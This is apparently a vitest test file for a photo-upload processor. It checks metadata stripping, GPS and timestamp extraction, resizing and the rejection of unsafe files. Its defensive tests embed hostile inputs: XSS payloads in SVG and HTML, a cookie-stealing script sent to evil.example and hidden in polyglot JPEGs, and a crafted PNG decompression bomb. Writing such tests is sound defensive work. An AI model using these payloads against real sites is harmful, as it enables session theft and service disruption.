import { crc32 } from 'node:zlib';
import type { AppError } from '@domain/errors/codes';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { phonePhoto } from './fixtures';
import { HEIC_READABLE, processPhoto } from './process';

const code = (p: Promise<unknown>) =>
  p.then(
    () => 'ok',
    (e: { code?: string }) => e.code,
  );

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 60, b: 40 } } });

/** Every trace of metadata a re-encode might carry over, looked for in the bytes themselves. */
async function expectNoMetadata(image: Buffer) {
  const meta = await sharp(image).metadata();
  expect(meta.exif).toBeUndefined();
  expect(meta.xmp).toBeUndefined();
  expect(meta.iptc).toBeUndefined();
  expect(meta.icc).toBeUndefined();
  expect(image.includes(Buffer.from('Exif\0'))).toBe(false);
}

describe('photo processing', () => {
  it('reads the GPS and shooting time of a phone photo, then strips every byte of metadata', async () => {
    const input = await phonePhoto({ gps: { lat: 29.4053, lng: 105.5941 } });
    expect((await sharp(input).metadata()).exif).toBeDefined();
    const out = await processPhoto(input);
    expect(out.gps?.lat).toBeCloseTo(29.4053, 4);
    expect(out.gps?.lng).toBeCloseTo(105.5941, 4);
    expect(out.contentType).toBe('image/jpeg');
    expect((await sharp(out.full).metadata()).format).toBe('jpeg');
    await expectNoMetadata(out.full);
    await expectNoMetadata(out.thumb);
    expect(out.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('a southern and western GPS fix comes out negative; a photo without EXIF has no place or time', async () => {
    const south = await processPhoto(await phonePhoto({ gps: { lat: -33.8568, lng: -70.6483 } }));
    expect(south.gps?.lat).toBeCloseTo(-33.8568, 4);
    expect(south.gps?.lng).toBeCloseTo(-70.6483, 4);
    const bare = await processPhoto(await phonePhoto());
    expect(bare.gps).toBeNull();
    expect(bare.takenAt).toBeNull();
  });

  it('the shooting time is Beijing time unless the phone wrote its own offset', async () => {
    const taken = (exif: Record<string, string>) =>
      solid(40, 30).withExif({ IFD2: exif }).jpeg().toBuffer().then(processPhoto);
    const beijing = await taken({ DateTimeOriginal: '2026:11:03 14:20:00' });
    expect(beijing.takenAt?.toISOString()).toBe('2026-11-03T06:20:00.000Z');
    const abroad = await taken({ DateTimeOriginal: '2026:11:03 14:20:00', OffsetTimeOriginal: '-05:00' });
    expect(abroad.takenAt?.toISOString()).toBe('2026-11-03T19:20:00.000Z');
  });

  it('a 0, 0 fix written by a phone without a signal is no place at all', async () => {
    const input = await solid(40, 30)
      .withExif({
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '0/1 0/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '0/1 0/1 0/1',
        },
      })
      .jpeg()
      .toBuffer();
    expect((await processPhoto(input)).gps).toBeNull();
  });

  it('shrinks a large photo to fit 1920 px, never enlarges a small one, and makes a small thumbnail', async () => {
    const landscape = await processPhoto(await phonePhoto({ width: 2560, height: 1920 }));
    expect([landscape.width, landscape.height]).toEqual([1920, 1440]);
    const thumb = await sharp(landscape.thumb).metadata();
    expect([thumb.width, thumb.height]).toEqual([320, 240]);
    expect(landscape.thumb.length).toBeLessThan(20 * 1024);

    const portrait = await processPhoto(await phonePhoto({ width: 1500, height: 2000 }));
    expect([portrait.width, portrait.height]).toEqual([1440, 1920]);

    const small = await processPhoto(await phonePhoto({ width: 200, height: 100 }));
    expect([small.width, small.height]).toEqual([200, 100]);
    expect((await sharp(small.thumb).metadata()).width).toBe(200);
  });

  it('PNG and WebP are accepted and come out as JPEG; a transparent PNG turns white, not black', async () => {
    const png = await sharp({
      create: { width: 50, height: 40, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } },
    })
      .png()
      .toBuffer();
    const fromPng = await processPhoto(png);
    expect([fromPng.width, fromPng.height, fromPng.contentType]).toEqual([50, 40, 'image/jpeg']);
    const { data } = await sharp(fromPng.full).raw().toBuffer({ resolveWithObject: true });
    expect(data[0]).toBeGreaterThan(245);

    const webp = await solid(60, 30).webp().toBuffer();
    expect((await processPhoto(webp)).width).toBe(60);
  });

  it('can write WebP instead of JPEG, thumbnail included', async () => {
    const out = await processPhoto(await phonePhoto({ gps: { lat: 29.4, lng: 105.6 } }), { format: 'webp' });
    expect(out.contentType).toBe('image/webp');
    expect((await sharp(out.full).metadata()).format).toBe('webp');
    expect((await sharp(out.thumb).metadata()).format).toBe('webp');
    await expectNoMetadata(out.full);
  });

  it('a photo taken sideways is turned upright by its EXIF orientation', async () => {
    // Left half red, right half blue, stored 600 × 400 with "rotate 90° clockwise to view".
    const halves = await sharp({ create: { width: 600, height: 400, channels: 3, background: 'blue' } })
      .composite([{ input: await solid(300, 400).png().toBuffer(), left: 0, top: 0 }])
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const out = await processPhoto(halves);
    expect([out.width, out.height]).toEqual([400, 600]);
    const pixel = async (top: number) => {
      const { data } = await sharp(out.full)
        .extract({ left: 200, top, width: 1, height: 1 })
        .raw()
        .toBuffer({ resolveWithObject: true });
      return data[0] as number;
    };
    expect(await pixel(100)).toBeGreaterThan(150);
    expect(await pixel(500)).toBeLessThan(60);
    expect((await sharp(out.full).metadata()).orientation).toBeUndefined();
  });

  it('the same upload gives the same hash, a different one another', async () => {
    const input = await phonePhoto();
    expect((await processPhoto(input)).sha256).toBe((await processPhoto(input)).sha256);
    expect((await processPhoto(await phonePhoto({ width: 801 }))).sha256).not.toBe(
      (await processPhoto(input)).sha256,
    );
  });

  it('refuses what is not a photo, whatever its name: text, SVG with script, HTML, GIF', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    );
    expect(await sharp(svg).metadata()).toMatchObject({ format: 'svg' });
    for (const input of [
      Buffer.from('this is not an image, just named IMG_0001.jpg'),
      svg,
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      Buffer.from('<!doctype html><script>alert(1)</script>'),
      await solid(10, 10).gif().toBuffer(),
      await solid(10, 10).tiff().toBuffer(),
      Buffer.alloc(0),
    ]) {
      expect(await code(processPhoto(input))).toBe('PHOTO_NOT_IMAGE');
    }
  });

  it('refuses a truncated JPEG and a file that merely starts like one', async () => {
    const jpeg = await phonePhoto();
    expect(await code(processPhoto(jpeg.subarray(0, jpeg.length / 2)))).toBe('PHOTO_NOT_IMAGE');
    expect(await code(processPhoto(jpeg.subarray(0, 200)))).toBe('PHOTO_NOT_IMAGE');
    const fakeHeader = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff]),
      Buffer.from('<script>alert(1)</script>'),
    ]);
    expect(await code(processPhoto(fakeHeader))).toBe('PHOTO_NOT_IMAGE');
  });

  it.skipIf(HEIC_READABLE)(
    'a HEIC photo, which this sharp cannot decode, is refused with a hint',
    async () => {
      const heic = Buffer.concat([
        Buffer.from([0, 0, 0, 0x18]),
        Buffer.from('ftypheic\0\0\0\0mif1heic'),
        Buffer.alloc(64),
      ]);
      const refusal = await processPhoto(heic).catch((e: AppError) => e);
      expect(refusal).toMatchObject({ code: 'PHOTO_NOT_IMAGE', status: 415 });
      expect((refusal as AppError).detail?.en).toMatch(/HEIC.*Most Compatible/);
    },
  );

  it('a polyglot comes out as a clean image: script after the image, in a comment or in EXIF is gone', async () => {
    const script = '<script>document.location="https://evil.example/"+document.cookie</script>';
    const photo = await phonePhoto();
    const comment = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xfe]),
      Buffer.from([0, script.length + 2]),
      Buffer.from(script),
      photo.subarray(2),
    ]);
    const inExif = await solid(80, 60)
      .withExif({ IFD0: { ImageDescription: script } })
      .jpeg()
      .toBuffer();
    for (const polyglot of [Buffer.concat([photo, Buffer.from(script)]), comment, inExif]) {
      expect(polyglot.includes(Buffer.from('<script>'))).toBe(true);
      const out = await processPhoto(polyglot);
      expect(out.full.includes(Buffer.from('<script'))).toBe(false);
      expect(out.thumb.includes(Buffer.from('<script'))).toBe(false);
    }
  });

  it('refuses an oversized file with 413 before looking inside it', async () => {
    const huge = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(20 * 1024 * 1024)]);
    const refusal = await processPhoto(huge).catch((e: { code: string; status: number }) => e);
    expect(refusal).toMatchObject({ code: 'PHOTO_TOO_LARGE', status: 413 });
    expect(await code(processPhoto(await phonePhoto(), { maxBytes: 1024 }))).toBe('PHOTO_TOO_LARGE');
  });

  it('refuses a decompression bomb cleanly with 400, without decoding it', async () => {
    // A 1 × 1 PNG whose header claims 20000 × 20000 pixels: 1.2 GB once decoded.
    const bomb = await solid(1, 1).png().toBuffer();
    bomb.writeUInt32BE(20000, 16);
    bomb.writeUInt32BE(20000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    expect(bomb.length).toBeLessThan(1024);
    const refusal = await processPhoto(bomb).catch((e: { code: string; status: number }) => e);
    expect(refusal).toMatchObject({ code: 'PHOTO_DIMENSIONS', status: 400 });

    // A real, well-compressed image over a lowered limit: the same refusal.
    const flat = await solid(1200, 1000).png({ compressionLevel: 9 }).toBuffer();
    expect(flat.length).toBeLessThan(64 * 1024);
    expect(await code(processPhoto(flat, { maxPixels: 1000 * 1000 }))).toBe('PHOTO_DIMENSIONS');
  });
});
